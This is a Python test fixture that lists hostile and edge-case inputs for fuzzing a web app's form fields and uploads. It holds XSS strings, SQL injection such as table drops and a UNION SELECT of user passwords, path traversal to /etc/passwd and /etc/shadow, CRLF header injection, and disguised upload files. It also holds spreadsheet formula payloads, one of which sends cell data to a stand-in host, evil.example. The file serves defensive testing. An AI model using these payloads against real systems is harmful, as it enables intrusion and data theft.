"""A corpus of hostile and awkward input, pushed into every form field and filter parameter.

Each entry is ``(label, value)``. The values are written by hand to cover the usual suspects:
markup and script injection, SQL injection, path traversal, control and invisible Unicode,
very long strings, spreadsheet formulas, header injection, and number and date edge cases.
``FILES`` holds a few uploads that are not what their name says.
"""

from __future__ import annotations

LONG = 10_000

PAYLOADS: list[tuple[str, str]] = [
    # --- Markup and script injection ---
    ("xss-script", "<script>alert(1)</script>"),
    ("xss-attr-break", '"><img src=x onerror=alert(1)>'),
    ("xss-single-quote-break", "'><svg onload=alert(1)>"),
    ("xss-svg", "<svg/onload=alert(1)>"),
    ("xss-iframe", '<iframe src="javascript:alert(1)"></iframe>'),
    ("xss-js-url", "javascript:alert(document.cookie)"),
    ("xss-data-url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("xss-body-onload", "<body onload=alert(1)>"),
    ("xss-end-textarea", "</textarea><script>alert(1)</script>"),
    ("xss-end-title", "</title><script>alert(1)</script>"),
    ("xss-template-tag", "{{ 7*7 }}{% debug %}"),
    ("xss-jinja-ssti", "${7*7}#{7*7}<%= 7*7 %>"),
    ("xss-entity", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("xss-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("xss-style", "<style>*{background:url(javascript:alert(1))}</style>"),
    ("xss-html-comment", "<!--<script>alert(1)</script>-->"),
    ("xss-markdown-link", "[click](javascript:alert(1))"),
    ("xss-json-break", '"};alert(1);//'),
    ("xss-url-encoded", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("xss-fullwidth", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    # --- SQL injection ---
    ("sql-or-true", "' OR '1'='1"),
    ("sql-or-true-comment", "' OR 1=1--"),
    ("sql-drop", "1; DROP TABLE partners_partner;--"),
    ("sql-union", "' UNION SELECT username, password FROM portal_user--"),
    ("sql-double-quote", '" OR ""="'),
    ("sql-sleep", "1' AND pg_sleep(5)--"),
    ("sql-like-wildcards", "%_%"),
    ("sql-backslash", "\\'; --"),
    ("sql-stacked", "1); DELETE FROM progress_changestory; --"),
    ("sql-hex", "0x27204f5220313d31"),
    ("fts-operators", '"foo" -bar OR (baz & !qux) <-> :*'),
    ("fts-only-operators", "!!!&&&|||():*"),
    ("fts-unbalanced-quote", '"unterminated'),
    # --- Path traversal and file names ---
    ("path-unix", "../../etc/passwd"),
    ("path-windows", "..\\..\\windows\\win.ini"),
    ("path-encoded", "..%2F..%2Fetc%2Fpasswd"),
    ("path-double-encoded", "..%252F..%252Fetc%252Fpasswd"),
    ("path-absolute", "/etc/shadow"),
    ("path-unc", "\\\\evil.example\\share\\x"),
    ("path-file-url", "file:///etc/passwd"),
    ("path-nul-extension", "photo.jpg\x00.php"),
    ("path-dot-only", "."),
    ("path-dotdot-only", ".."),
    # --- Control characters and invisible Unicode ---
    ("nul", "a\x00b"),
    ("nul-only", "\x00"),
    ("nul-trailing", "search\x00"),
    ("bell-and-backspace", "a\x07b\x08c"),
    ("escape-sequence", "\x1b[31mred\x1b[0m"),
    ("rtl-override", "\u202egnp.exe"),
    ("rtl-embed-name", "invoice\u202efdp.exe"),
    ("zero-width-space", "\u200b"),
    ("zero-width-joiner-text", "a\u200db\u200cc\u2060d"),
    ("bom", "\ufeffhello"),
    ("lone-surrogate-escape", "\\ud800"),
    ("noncharacter", "\uffff\ufffe"),
    ("combining-zalgo", "Z\u0351\u0360\u0367a\u0352\u0344l\u034fg\u0368o"),
    ("only-whitespace", " \t \u00a0\u3000 "),
    ("empty", ""),
    # --- Very long strings ---
    ("long-ascii", "A" * LONG),
    ("long-script", "<script>" * 1_250),
    ("long-unicode", "\u00e9" * LONG),
    ("long-emoji", "\U0001f600" * 2_500),
    ("long-number", "9" * LONG),
    ("long-quote", "'" * LONG),
    # --- Spreadsheet formulas ---
    ("formula-cmd", "=cmd|' /C calc'!A0"),
    ("formula-plus", "+SUM(1,1)"),
    ("formula-minus", "-1+1"),
    ("formula-at", "@SUM(A1)"),
    ("formula-hyperlink", '=HYPERLINK("http://evil.example","click")'),
    ("formula-tab-prefix", "\t=1+1"),
    ("formula-importxml", '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")'),
    # --- Header injection ---
    ("crlf", "line\r\nSet-Cookie: x=y"),
    ("crlf-encoded", "%0d%0a"),
    ("crlf-location", "\r\nLocation: http://evil.example/"),
    ("lf-only", "one\ntwo\nthree"),
    ("cr-only", "one\rtwo"),
    # --- Numbers ---
    ("minus-one", "-1"),
    ("zero", "0"),
    ("huge-int", "99999999999999999999"),
    ("int64-overflow", "9223372036854775808"),
    ("int32-overflow", "2147483648"),
    ("float-overflow", "1e309"),
    ("nan", "NaN"),
    ("infinity", "Infinity"),
    ("negative-zero", "-0"),
    ("decimal", "3.5"),
    ("hex-number", "0x10"),
    ("arabic-indic-digits", "\u0663"),
    # --- Dates ---
    ("date-feb-30", "2026-02-30"),
    ("date-zero", "0000-00-00"),
    ("date-max", "9999-12-31"),
    ("date-old", "1900-01-01"),
    ("date-year-one", "0001-01-01"),
    ("date-five-digit-year", "10000-01-01"),
    ("date-us-format", "02/30/2026"),
    ("date-iso-time", "2026-03-14T25:61:61Z"),
    ("date-epoch", "1700000000"),
    ("date-negative-year", "-2026-01-01"),
    # --- Scripts, emoji and mixed text ---
    ("emoji", "\U0001f469\u200d\U0001f33e\U0001f3f3\ufe0f\u200d\U0001f308 \U0001f600"),
    (
        "mixed-scripts",
        "Ma\u0301ri\u0301a \u0645\u0631\u064a\u0645 \u0928\u0940\u0924\u093e \u674e\u534e",
    ),
    ("cyrillic-homoglyph", "\u0440\u0430\u0443\u0440\u0430l.com"),
    ("right-to-left-text", "\u05e9\u05dc\u05d5\u05dd \u0633\u0644\u0627\u0645"),
    ("astral-math", "\U0001d54f\U0001d560\U0001d565"),
    # --- Polyglots and wrong types ---
    (
        "polyglot-xss-sql",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//</stYle/</"
        "titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    ),
    ("polyglot-json", '{"__proto__": {"admin": true}}'),
    ("polyglot-array", "[1,2,3]"),
    ("wrong-type-bool", "true"),
    ("wrong-type-null", "null"),
    ("wrong-type-none", "None"),
]

# Uploads that are not what they claim to be: name, content, declared content type.
FILES: list[tuple[str, bytes, str]] = [
    ("html-as.jpg", b"<html><script>alert(1)</script></html>", "image/jpeg"),
    ("gifar.png", b"GIF89a/*<script>alert(1)</script>*/=1;", "image/png"),
    ("exe-as.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff", "application/pdf"),
    ("script.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "image/jpeg"),
    ("truncated.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", "image/jpeg"),
    ("empty.png", b"", "image/png"),
    ("../../etc/passwd.pdf", b"%PDF-1.4\n1 0 obj<</JS(alert(1))>>endobj\n%%EOF", "application/pdf"),
    ("\u202egpj.exe", b"MZ", "image/jpeg"),
]

# The payloads a spreadsheet would evaluate, for the export tests.
FORMULA_PAYLOADS = [value for name, value in PAYLOADS if name.startswith("formula")]
